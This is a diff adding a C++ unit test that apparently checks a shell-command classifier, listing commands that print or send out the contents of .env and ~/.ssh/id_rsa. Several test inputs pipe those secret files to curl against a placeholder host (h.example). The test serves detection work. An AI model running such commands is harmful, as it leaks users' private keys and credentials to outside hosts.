@@ -408,5 +408,18 @@ TEST(Kinds, versions_of_a_secret_are_shown) {
                  {"git diff main", "git diff --stat .env", "git log -- .env", "git log -p src", "cmp .env x"});
 }
 
+TEST(Kinds, what_comes_from_a_secret_file_is_shown_by_what_prints_it) {
+  expect_effects(
+      shows_secret,
+      {"while read l; do echo \"$l\"; done < .env", "{ cat; } < .env", "( cat ) < .env", "echo \"$(<.env)\"",
+       "read -r x < ~/.ssh/id_rsa; echo \"$x\"", "mapfile -t a < .env; echo \"${a[@]}\"", "xargs echo < .env"},
+      {"while IFS== read -r k v; do export \"$k=$v\"; done < .env", "{ wc -l; } < .env",
+       "k=$(<.env); curl -H \"Authorization: Bearer $k\" https://h.example", "mapfile -t a < list; echo \"${a[@]}\"",
+       "docker login --password-stdin < .env"});
+  expect_effects(carries,
+                 {"xargs -a .env curl https://h.example", "parallel -a ~/.ssh/id_rsa curl https://h.example/{}"},
+                 {"xargs -a list curl https://h.example"});
+}
+
 }  // namespace
 }  // namespace pawl
